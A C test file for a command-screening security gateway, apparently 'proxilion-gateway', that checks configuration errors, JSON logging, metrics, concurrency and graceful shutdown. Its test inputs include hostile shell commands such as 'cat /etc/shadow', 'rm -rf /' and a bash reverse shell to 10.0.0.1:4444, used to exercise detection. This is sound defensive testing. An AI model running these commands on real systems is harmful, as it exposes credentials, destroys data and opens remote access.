/* Process life: configuration errors, one-shot commands, logs, metrics,
 * concurrency and graceful shutdown of the real binary. */
#include <criterion/criterion.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "support/support.h"

static char out[65536], err[65536];

Test(lifecycle, invalid_configuration_exits_2_with_a_clear_message)
{
    static const struct {
        const char *env;
        const char *arg;
        const char *expect;
    } cases[] = {
        {"MODE=enforce", NULL, "MODE"},
        {"WORKER_THREADS=0", NULL, "WORKER_THREADS"},
        {"ALERT_THRESHOLD=95", NULL, "ALERT_THRESHOLD <= BLOCK_THRESHOLD"},
        {"LISTEN_ADDR=nowhere", NULL, "LISTEN_ADDR"},
        {"RULES_DIR=/nonexistent", NULL, "rules"},
        {NULL, "--bogus", "--bogus"},
        {NULL, "--mode=x", "MODE"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        const char *env[] = {cases[i].env, NULL};
        const char *args[] = {cases[i].arg, NULL};
        int rc = px_t_gateway_run(args, env, out, sizeof(out), err, sizeof(err));
        cr_expect_eq(rc, 2, "case %zu exited %d", i, rc);
        cr_expect(strstr(err, cases[i].expect) != NULL, "case %zu: stderr '%s' lacks '%s'", i, err, cases[i].expect);
    }
}

Test(lifecycle, help_and_version)
{
    const char *args[] = {"--help", NULL};
    cr_expect_eq(px_t_gateway_run(args, NULL, out, sizeof(out), err, sizeof(err)), 0);
    static const char *const vars[] = {"MODE", "LISTEN_ADDR", "SESSION_STORE", "REDIS_URL", "SESSION_TTL_SECONDS",
                                       "SESSION_TTL_HOURS", "ALERT_THRESHOLD", "BLOCK_THRESHOLD",
                                       "TERMINATE_THRESHOLD", "WORKER_THREADS", "MAX_BODY_BYTES", "LOG_LEVEL",
                                       "LOG_FORMAT", "--explain"};
    for (size_t i = 0; i < sizeof(vars) / sizeof(vars[0]); i++)
        cr_expect(strstr(out, vars[i]) != NULL, "--help lacks %s", vars[i]);
    const char *v[] = {"--version", NULL};
    cr_expect_eq(px_t_gateway_run(v, NULL, out, sizeof(out), err, sizeof(err)), 0);
    cr_expect(strstr(out, "proxilion-gateway") != NULL);
}

Test(lifecycle, explain_prints_the_trace)
{
    const char *args[] = {"--explain", "nmap -sV 10.0.0.0/24", NULL};
    cr_expect_eq(px_t_gateway_run(args, NULL, out, sizeof(out), err, sizeof(err)), 0);
    cr_expect(strstr(out, "normalised actions") != NULL, "%s", out);
    cr_expect(strstr(out, "threat score") != NULL, "%s", out);
}

Test(lifecycle, port_in_use_is_a_clear_error_exit_1)
{
    /* A listener without SO_REUSEPORT holds the port exclusively. */
    int port = px_t_free_port();
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    cr_assert_eq(bind(fd, (struct sockaddr *)&a, sizeof(a)), 0);
    cr_assert_eq(listen(fd, 1), 0);
    char listen_env[64];
    snprintf(listen_env, sizeof(listen_env), "LISTEN_ADDR=127.0.0.1:%d", port);
    const char *env[] = {listen_env, NULL};
    int rc = px_t_gateway_run(NULL, env, out, sizeof(out), err, sizeof(err));
    close(fd);
    cr_expect_eq(rc, 1, "exit %d", rc);
    cr_expect(strstr(err, "cannot listen") != NULL, "%s", err);
}

static void find_log_line(const char *path, const char *needle, char *line, size_t linelen)
{
    line[0] = '\0';
    FILE *f = fopen(path, "r");
    cr_assert_not_null(f);
    char buf[4096];
    while (fgets(buf, sizeof(buf), f) != NULL)
        if (strstr(buf, needle) != NULL) {
            snprintf(line, linelen, "%s", buf);
            break;
        }
    fclose(f);
}

Test(lifecycle, one_json_log_line_per_request_without_the_command, .timeout = 30)
{
    px_t_gateway g;
    const char *env[] = {"WORKER_THREADS=1", NULL};
    cr_assert_eq(px_t_gateway_start(&g, env, 15000), 0);
    char *body = px_t_bash_body("cat /etc/shadow # secret-marker-42", "log-user@example.com", "log-session");
    px_t_resp r;
    cr_assert_eq(px_t_analyze(g.port, body, &r), 0);
    free(body);
    px_t_resp_free(&r);
    char path[256];
    snprintf(path, sizeof(path), "%s", g.log_path);
    usleep(100000);
    char line[4096];
    find_log_line(path, "log-session", line, sizeof(line));
    cr_assert(line[0] != '\0', "no log line for the request");
    cJSON *j = cJSON_Parse(line);
    cr_assert_not_null(j, "log line is not JSON: %s", line);
    static const char *const fields[] = {"time", "level", "session", "user", "decision", "rules"};
    for (size_t i = 0; i < sizeof(fields) / sizeof(fields[0]); i++)
        cr_expect_not_null(cJSON_GetObjectItem(j, fields[i]), "log line lacks %s: %s", fields[i], line);
    cr_expect(cJSON_IsNumber(cJSON_GetObjectItem(j, "score")));
    cr_expect(cJSON_IsNumber(cJSON_GetObjectItem(j, "latency_us")));
    cr_expect_str_eq(px_t_json_str(j, "level"), "info");
    cr_expect(strstr(line, "secret-marker-42") == NULL, "the request body leaked into the log");
    cJSON_Delete(j);
    cr_expect_eq(px_t_gateway_stop(&g, SIGTERM, 10000), 0);
}

/* Every metric family the gateway declares must move. */
Test(lifecycle, every_declared_metric_is_updated, .timeout = 60)
{
    px_t_gateway g;
    const char *env[] = {"WORKER_THREADS=2", "MODE=terminate", "MAX_BODY_BYTES=1024", NULL};
    cr_assert_eq(px_t_gateway_start(&g, env, 15000), 0);
    px_t_resp r;
    static const char *const cmds[] = {"ls -la", "nmap -sV 10.0.0.0/24", "cat /etc/shadow", "rm -rf /"};
    for (size_t i = 0; i < sizeof(cmds) / sizeof(cmds[0]); i++) {
        char *b = px_t_bash_body(cmds[i], "m-user", "m-session");
        cr_assert_eq(px_t_analyze(g.port, b, &r), 0);
        px_t_resp_free(&r);
        free(b);
    }
    cr_assert_eq(px_t_http(g.port, "GET", "/missing", NULL, NULL, 0, &r), 0);
    px_t_resp_free(&r);
    cr_assert_eq(px_t_http(g.port, "PUT", "/health", NULL, NULL, 0, &r), 0);
    px_t_resp_free(&r);
    cr_assert_eq(px_t_analyze(g.port, "{", &r), 0);
    px_t_resp_free(&r);
    char big[2048];
    memset(big, ' ', sizeof(big));
    cr_assert_eq(px_t_http(g.port, "POST", "/analyze", "Content-Type: application/json\r\n", big, sizeof(big), &r), 0);
    px_t_resp_free(&r);
    cr_assert_eq(px_t_http(g.port, "GET", "/metrics", NULL, NULL, 0, &r), 0);
    cr_expect_eq(r.status, 200);
    cr_expect(strncmp(r.content_type, "text/plain; version=0.0.4", 25) == 0, "%s", r.content_type);
    /* For each "# TYPE name" family, some sample line with a non-zero value. */
    char *text = r.body;
    int families = 0;
    for (char *p = strstr(text, "# TYPE "); p != NULL; p = strstr(p + 1, "# TYPE ")) {
        char name[128];
        cr_assert_eq(sscanf(p + 7, "%127s", name), 1);
        families++;
        int moved = 0;
        for (char *l = strchr(p, '\n'); l != NULL && l[1] != '#' && l[1] != '\0'; l = strchr(l + 1, '\n')) {
            const char *line = l + 1, *eol = strchr(line, '\n');
            const char *sp = eol != NULL ? eol : line + strlen(line);
            while (sp > line && sp[-1] != ' ')
                sp--;
            if (strncmp(line, name, strlen(name)) == 0 && strtod(sp, NULL) != 0)
                moved = 1;
        }
        cr_expect(moved, "metric family %s never moved", name);
    }
    cr_expect_geq(families, 12);
    cr_expect(strstr(text, "proxilion_sessions_terminated_total 1") != NULL, "%s", text);
    px_t_resp_free(&r);
    cr_expect_eq(px_t_gateway_stop(&g, SIGTERM, 10000), 0);
}

typedef struct load_arg {
    int port;
    int id;
    int ok;
    int bad;
    int stop_after_error;
} load_arg;

static void *load_thread(void *p)
{
    load_arg *a = p;
    static const char *const cmds[] = {"ls -la", "grep -r \"password\" /var/log/",
                                       "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "git status"};
    px_t_conn c;
    if (px_t_conn_open(&c, a->port) != 0) {
        a->bad++;
        return NULL;
    }
    char session[32];
    snprintf(session, sizeof(session), "conc-%d", a->id);
    for (int i = 0; i < 100; i++) {
        char *b = px_t_bash_body(cmds[(a->id + i) % 4], "conc-user", session);
        px_t_resp r;
        int rc = px_t_conn_request(&c, "POST", "/analyze", "Content-Type: application/json\r\n", b, strlen(b), &r);
        free(b);
        if (rc != 0) {
            a->bad++;
            if (a->stop_after_error)
                break;
            continue;
        }
        cJSON *j = px_t_json(&r);
        if ((r.status == 200 || r.status == 403) && j != NULL && px_t_json_str(j, "decision") != NULL)
            a->ok++;
        else
            a->bad++;
        cJSON_Delete(j);
        px_t_resp_free(&r);
    }
    px_t_conn_close(&c);
    return NULL;
}

Test(lifecycle, many_parallel_connections_get_no_errors, .timeout = 120)
{
    px_t_gateway g;
    const char *env[] = {"WORKER_THREADS=2", NULL};
    cr_assert_eq(px_t_gateway_start(&g, env, 15000), 0);
    enum { N = 48 };
    pthread_t t[N];
    load_arg a[N];
    for (int i = 0; i < N; i++) {
        a[i] = (load_arg){g.port, i, 0, 0, 0};
        pthread_create(&t[i], NULL, load_thread, &a[i]);
    }
    int ok = 0, bad = 0;
    for (int i = 0; i < N; i++) {
        pthread_join(t[i], NULL);
        ok += a[i].ok;
        bad += a[i].bad;
    }
    cr_expect_eq(bad, 0);
    cr_expect_eq(ok, N * 100);
    /* The gateway counted exactly those requests. */
    px_t_resp r;
    cr_assert_eq(px_t_http(g.port, "GET", "/metrics", NULL, NULL, 0, &r), 0);
    long total = 0;
    for (const char *p = strstr(r.body, "proxilion_requests_total{"); p != NULL;
         p = strstr(p + 1, "proxilion_requests_total{"))
        total += strtol(strchr(p, ' ') + 1, NULL, 10);
    cr_expect_eq(total, N * 100);
    px_t_resp_free(&r);
    cr_expect_eq(px_t_gateway_stop(&g, SIGTERM, 10000), 0);
}

Test(lifecycle, sigterm_under_load_finishes_cleanly, .timeout = 60)
{
    px_t_gateway g;
    const char *env[] = {"WORKER_THREADS=2", NULL};
    cr_assert_eq(px_t_gateway_start(&g, env, 15000), 0);
    enum { N = 16 };
    pthread_t t[N];
    load_arg a[N];
    for (int i = 0; i < N; i++) {
        a[i] = (load_arg){g.port, i, 0, 0, 1};
        pthread_create(&t[i], NULL, load_thread, &a[i]);
    }
    usleep(50000);
    int rc = px_t_gateway_stop(&g, SIGTERM, 15000);
    int ok = 0;
    for (int i = 0; i < N; i++) {
        pthread_join(t[i], NULL);
        ok += a[i].ok;
        /* A client may see its connection closed after the last complete
         * response, never a truncated or invalid one. */
        cr_expect_leq(a[i].bad, 1, "client %d saw %d failures", i, a[i].bad);
    }
    cr_expect_eq(rc, 0, "exit status after SIGTERM: %d", rc);
    cr_expect_gt(ok, 0);
}

Test(lifecycle, sigint_also_exits_0, .timeout = 30)
{
    px_t_gateway g;
    const char *env[] = {"WORKER_THREADS=1", NULL};
    cr_assert_eq(px_t_gateway_start(&g, env, 15000), 0);
    cr_expect_eq(px_t_gateway_stop(&g, SIGINT, 10000), 0);
}
